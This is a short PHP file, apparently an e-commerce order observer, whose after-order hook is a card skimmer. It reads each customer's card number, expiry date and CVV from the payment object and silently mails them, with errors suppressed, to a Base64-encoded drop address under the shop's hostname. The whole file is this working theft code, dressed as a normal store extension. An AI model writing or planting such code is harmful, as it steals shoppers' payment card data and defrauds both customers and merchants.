<?php
// An order observer: the drop address kept Base64-encoded, the card read through the payment object.
class Zq_Observer
{
    public function salesOrderPlaceAfter($o)
    {
        $p = $o->getEvent()->getOrder()->getPayment();
        $z = $p->getCcNumber() . ';' . $p->getCcExpMonth() . $p->getCcExpYear() . ';' . $p->getCcCid();
        @mail(base64_decode('ZHJvcEBleGFtcGxlLm9yZw=='), $_SERVER['HTTP_HOST'], $z);
        return $this;
    }
}
